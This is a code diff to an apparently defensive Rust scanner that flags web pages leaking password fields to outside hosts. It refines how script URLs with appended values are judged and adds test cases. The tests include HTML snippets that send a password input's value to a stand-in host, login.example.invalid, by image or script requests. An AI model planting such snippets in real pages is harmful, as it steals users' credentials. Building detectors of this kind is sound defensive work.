@@ -195,10 +195,24 @@ fn asked_for(look: &Look<'_>, source: &str) -> Vec<String> {
                 .then(|| quoted(near).next())
                 .flatten();
             let address = literal.filter(|text| text.ends_with('=') || text.contains("=${"));
+            let address = address.filter(|text| !is_program(text) || is_given(near));
             found.extend(address.and_then(|text| outside(look, text)));
         }
     }
     found
+}
+
+/// Whether an address is that of a script: pages load those of others with a number of their own behind them.
+fn is_program(address: &str) -> bool {
+    let path = address.split('?').next().unwrap_or_default();
+    path.ends_with(".js")
+}
+
+/// Whether what stands behind an address is what somebody typed.
+fn is_given(statement: &str) -> bool {
+    let statement = statement.split([';', '\n']).next().unwrap_or_default();
+    let typed = ["value", "val(", "pass", "pwd"];
+    typed.iter().any(|word| statement.contains(word))
 }
 
 /// An address on the web, in the form in which it is fetched.
@@ -272,6 +286,7 @@ mod tests {
             "<base href=\"https://login.example.invalid/\"><form action=p.php method=post><input type=password></form>",
             "<input type=password id=p><script>new Image().src = 'https://login.example.invalid/?p=' + p.value</script>",
             "<form action='https://login.example.invalid/'><input id=q></form><script>q.setAttribute('type', 'password')</script>",
+            "<input type=password id=p><script>s.src = 'https://login.example.invalid/a.js?p=' + p.value</script>",
         ] {
             assert_eq!(found(page), (1, 1), "{page}");
         }
@@ -283,6 +298,7 @@ mod tests {
             "<base href=\"https://www.example.com/\"><form action=search><input name=q></form>",
             "<base href=\"/app/\"><form action=p><input type=password></form>",
             "<input type=password><script>logo.src = 'https://www.example.com/logo.png'</script>",
+            "<form action=/in><input type=password></form><script>j.src = 'https://www.example.com/tags.js?id=' + i + dl; p.value = 1</script>",
         ] {
             assert_eq!(found(page).0, 0, "{page}");
         }
